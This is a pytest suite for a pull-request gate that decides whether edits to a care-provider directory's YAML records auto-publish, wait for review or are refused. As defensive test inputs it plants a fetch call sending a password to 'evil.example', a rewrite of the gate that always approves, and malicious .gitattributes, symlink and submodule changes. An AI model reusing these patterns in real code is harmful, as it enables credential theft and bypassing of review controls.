import datetime as dt
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from gitflow import edit, git, init_repo, pull_request
from tools import ROOT

from tsunagu.cli import cli
from tsunagu.contribute.gate import AUTO, REFUSED, REVIEW, decide

TODAY = dt.date(2026, 11, 22)
SAKURA = "data/providers/day-sakura.yaml"
AOBA = "data/providers/home-aoba.yaml"
YAMADA = "data/physicians/yamada-naika.yaml"


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return init_repo(tmp_path)


def gate(author, head="pr", *args):
    return CliRunner().invoke(
        cli, ["gate", "--base-rev", "main", "--head-rev", head, "--author", author, "--today", TODAY.isoformat(), *args]
    )


def status_update(repo):
    edit(repo, SAKURA, "new_clients: accepting", "new_clients: not_accepting")
    edit(repo, SAKURA, "updated: 2026-11-01", "updated: 2026-11-21")


def test_provider_change_touching_anything_else_is_refused_naming_each_file(repo):
    status_update(repo)
    edit(repo, "tsunagu/web/static/unlock.js", None, "fetch('https://evil.example/?p=' + password)\n")
    edit(repo, ".github/workflows/deploy.yml", None, "on: push\n")
    edit(repo, "data/site.yaml", "admins: [city-admin]", "admins: [city-admin, sakura-day]")
    edit(repo, AOBA, "new_clients: not_accepting", "new_clients: accepting")
    edit(repo, "data/notices/2026-11-21-x.md", None, "---\ntitle: x\ndate: 2026-11-21\n---\n")
    pull_request(repo, "pr")
    result = gate("sakura-day", "pr", "--decision-out", "decision.txt")
    assert result.exit_code == 1
    assert (
        str(result.exception)
        == """\
.github/workflows/deploy.yml: データ以外のファイル（コード・テンプレート・ワークフローなど）は管理者のみ変更できます
data/notices/2026-11-21-x.md: お知らせは管理者のみ変更できます
data/providers/home-aoba.yaml: sakura-day はこの記録の maintainers にありません（maintainers: aoba-helper, aoba-office）
data/site.yaml: サイト設定は管理者のみ変更できます
tsunagu/web/static/unlock.js: データ以外のファイル（コード・テンプレート・ワークフローなど）は管理者のみ変更できます
5 件のファイルは sakura-day が変更できません。管理者のレビューが必要です。"""
    )
    assert Path("decision.txt").read_text() == "refused\n"


@pytest.mark.parametrize(
    "path",
    [
        "tsunagu/contribute/owners.py",
        "templates/record.html",
        "README.md",
        "requirements.lock",
        ".github/CODEOWNERS",
        "build.py",
    ],
)
def test_one_outside_file_is_enough_to_refuse(repo, path):
    status_update(repo)
    edit(repo, path, None, "x\n")
    pull_request(repo, "pr")
    verdict = decide("main", "pr", "sakura-day", "data", TODAY)
    assert (verdict.decision, verdict.refusals) == (
        REFUSED,
        [f"{path}: データ以外のファイル（コード・テンプレート・ワークフローなど）は管理者のみ変更できます"],
    )


def test_status_only_update_by_a_maintainer_publishes_itself(repo):
    status_update(repo)
    pull_request(repo, "pr")
    result = gate("Sakura-Day", "pr", "--decision-out", "decision.txt", "--summary-out", "summary.md")
    assert result.exit_code == 0, result.output
    assert result.output == (
        "## 判定: 自動で反映します\n\nSakura-Day さんが担当する記録の受入状況（医師は連絡先）だけの更新で、検証に通りました。"
        "管理者の確認を待たずにマージし、サイトを更新します（数分で表示されます）。\n"
    )
    assert Path("decision.txt").read_text() == "auto\n"
    assert Path("summary.md").read_text(encoding="utf-8") == result.output


def test_confirm_without_change_and_physician_contact_publish_themselves(repo):
    edit(repo, SAKURA, "updated: 2026-11-01", "updated: 2026-11-22")
    pull_request(repo, "confirm")
    assert decide("main", "confirm", "sakura-day", "data", TODAY).decision == AUTO
    edit(repo, YAMADA, "via: 看護師長 経由", "via: 事務長 経由\n  confirmed_via: pr\n  confirmed_by: yamada-clinic")
    pull_request(repo, "contact")
    assert decide("main", "contact", "yamada-clinic", "data", TODAY).decision == AUTO


REVIEW_CASES = {
    "phone outside status": (
        SAKURA,
        "phone: 029-000-1111",
        "phone: 029-000-1119",
        "sakura-day",
        ["「受入状況」以外の項目が変更されています（電話）"],
    ),
    "invalid status": (SAKURA, "new_clients: accepting", "new_clients: yes", "sakura-day", None),
    "future date": (SAKURA, "updated: 2026-11-01", "updated: 2027-01-01", "sakura-day", None),
    "claims a phone call": (
        SAKURA,
        "  post_infection: not_accepting",
        "  post_infection: accepting\n  confirmed_via: phone\n  confirmed_by: sakura-day",
        "sakura-day",
        ["電話・FAX での確認は管理者だけが記録できます（confirmed_via / confirmed_with）"],
    ),
    "claims another confirmer": (
        SAKURA,
        "  post_infection: not_accepting",
        "  post_infection: accepting\n  confirmed_by: city-admin",
        "sakura-day",
        ["入力者（confirmed_by: city-admin）が提出者 sakura-day と一致しません"],
    ),
    "admin changes site.yaml": (
        "data/site.yaml",
        "stale_after_days: 14",
        "stale_after_days: 7",
        "city-admin",
        ["data/site.yaml は記録ファイルではありません"],
    ),
}


@pytest.mark.parametrize("case", REVIEW_CASES)
def test_anything_else_waits_for_review(repo, case):
    path, old, new, author, reasons = REVIEW_CASES[case]
    edit(repo, path, old, new)
    pull_request(repo, "pr")
    verdict = decide("main", "pr", author, "data", TODAY)
    assert verdict.decision == REVIEW
    if reasons is None:
        assert len(verdict.reasons) == 1 and verdict.reasons[0].startswith(
            "検証エラー: data/providers/day-sakura.yaml:"
        )
    else:
        assert verdict.reasons == reasons


def test_an_oversized_record_waits_for_review(repo):
    edit(repo, SAKURA, "notes: |\n", "notes: |\n" + "  あ\n" * 100_000)
    pull_request(repo, "big")
    assert decide("main", "big", "sakura-day", "data", TODAY).reasons == [
        "記録の追加・削除、または読み込めない記録は管理者の確認が必要です"
    ]


def test_two_records_or_a_new_one_wait_for_review_even_by_an_admin(repo):
    status_update(repo)
    edit(repo, AOBA, "new_clients: not_accepting", "new_clients: accepting")
    pull_request(repo, "two")
    assert decide("main", "two", "city-admin", "data", TODAY).reasons == [
        "複数のファイル（2 件）が変更されています。自動で反映できるのは 1 件の記録の更新だけです"
    ]
    shutil.copy(repo / AOBA, repo / "data/providers/home-new.yaml")
    pull_request(repo, "new")
    assert decide("main", "new", "city-admin", "data", TODAY).reasons == [
        "記録の追加・削除、または読み込めない記録は管理者の確認が必要です"
    ]
    assert decide("main", "new", "aoba-helper", "data", TODAY).refusals == [
        "data/providers/home-new.yaml: 新しい記録の追加は管理者のみ行えます"
    ]


def test_policy_comes_from_the_base_not_from_the_change(repo):
    edit(repo, AOBA, "[aoba-helper, aoba-office]", "[mallory]")
    edit(repo, AOBA, "new_clients: not_accepting", "new_clients: accepting")
    pull_request(repo, "grab")
    assert decide("main", "grab", "mallory", "data", TODAY).refusals == [
        f"{AOBA}: mallory はこの記録の maintainers にありません（maintainers: aoba-helper, aoba-office）"
    ]


def test_deleting_or_symlinking_ones_own_record_is_refused(repo):
    (repo / SAKURA).unlink()
    pull_request(repo, "delete")
    assert decide("main", "delete", "sakura-day", "data", TODAY).refusals == [
        f"{SAKURA}: 記録の削除は管理者のみ行えます"
    ]
    (repo / SAKURA).unlink()
    os.symlink("../site.yaml", repo / SAKURA)
    pull_request(repo, "link")
    assert decide("main", "link", "sakura-day", "data", TODAY).refusals == [
        f"{SAKURA}: 通常のファイル以外（シンボリックリンクや実行可能ファイル）は管理者のみ追加できます"
    ]


def run_gate(checkout, repo):
    """The gate command run with the code of a checkout (as a workflow would), on the fixture repository."""
    env = {**os.environ, "PYTHONPATH": str(checkout)}
    return subprocess.run(
        [
            sys.executable,
            str(checkout / "build.py"),
            "gate",
            "--base-rev",
            "main",
            "--head-rev",
            "attack",
            "--author",
            "sakura-day",
            "--today",
            TODAY.isoformat(),
        ],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
    )


@pytest.mark.slow
def test_the_base_code_ignores_a_checker_modified_in_the_change(repo, tmp_path):
    """A change that rewrites the gate to say yes, and edits someone else's record, is refused by the base's gate."""
    shutil.copytree(ROOT / "tsunagu", repo / "tsunagu", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "build.py", repo / "build.py")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "code")
    gate_py = repo / "tsunagu" / "contribute" / "gate.py"
    gate_py.write_text(
        gate_py.read_text(encoding="utf-8") + "\n\ndef decide(*args, **kwargs):\n    return Verdict(AUTO)\n",
        encoding="utf-8",
    )
    edit(repo, AOBA, "new_clients: not_accepting", "new_clients: accepting")
    pull_request(repo, "attack")
    git(repo, "worktree", "add", "-q", str(tmp_path / "head"), "attack")
    hostile = run_gate(tmp_path / "head", repo)
    assert hostile.returncode == 0 and "自動で反映します" in hostile.stdout, "the PR's own code would let it through"
    trusted = run_gate(repo, repo)
    assert trusted.returncode == 1
    assert (
        trusted.stdout + trusted.stderr
        == f"""\
{AOBA}: sakura-day はこの記録の maintainers にありません（maintainers: aoba-helper, aoba-office）
tsunagu/contribute/gate.py: データ以外のファイル（コード・テンプレート・ワークフローなど）は管理者のみ変更できます
2 件のファイルは sakura-day が変更できません。管理者のレビューが必要です。
"""
    )


def test_invalid_utf8_in_a_status_update_is_refused_with_file_and_line(repo):
    # A byte that is not UTF-8 used to be replaced while validating, so the change published itself and
    # every later deploy broke on the exact bytes that were merged.
    status_update(repo)
    path = repo / SAKURA
    raw = path.read_bytes().replace("入浴は午前のみ。".encode(), "入浴は午前のみ。".encode() + b"\xff", 1)
    line = raw[: raw.index(b"\xff")].count(b"\n") + 1
    path.write_bytes(raw)
    pull_request(repo, "pr")
    verdict = decide("main", "pr", "sakura-day", "data", TODAY)
    assert verdict.decision != AUTO
    assert (
        f"検証エラー: data/providers/day-sakura.yaml:{line}: not UTF-8 text (byte 0xff); save the file as UTF-8"
        in verdict.reasons
    ), verdict.reasons


def test_a_submodule_or_gitattributes_in_a_pull_request_is_refused(repo):
    # A gitlink checks out another repository's tree at deploy; .gitattributes can re-encode (working-tree-encoding)
    # or rewrite (eol, filters) the very bytes the gate validated.
    status_update(repo)
    git(repo, "switch", "-q", "-c", "gitlink")
    git(repo, "add", "-A")
    head = git(repo, "rev-parse", "HEAD").strip()
    for path in (SAKURA, "data/providers/vendor"):
        git(repo, "update-index", "--add", "--cacheinfo", f"160000,{head},{path}")
    git(repo, "commit", "-q", "-m", "gitlink")
    git(repo, "switch", "-q", "-f", "main")
    git(repo, "clean", "-q", "-fd")
    verdict = decide("main", "gitlink", "sakura-day", "data", TODAY)
    assert verdict.decision == REFUSED
    assert (
        f"{SAKURA}: 通常のファイル以外（シンボリックリンクや実行可能ファイル）は管理者のみ追加できます"
        in verdict.refusals
    )
    assert any(r.startswith("data/providers/vendor: ") for r in verdict.refusals)
    for path in ("data/.gitattributes", "data/providers/.gitattributes", ".gitattributes"):
        status_update(repo)
        edit(repo, path, None, "*.yaml eol=crlf filter=evil\n")
        pull_request(repo, "attrs-" + path.replace("/", "-"))
        verdict = decide("main", "attrs-" + path.replace("/", "-"), "sakura-day", "data", TODAY)
        assert verdict.decision == REFUSED and any(r.startswith(f"{path}: ") for r in verdict.refusals), verdict
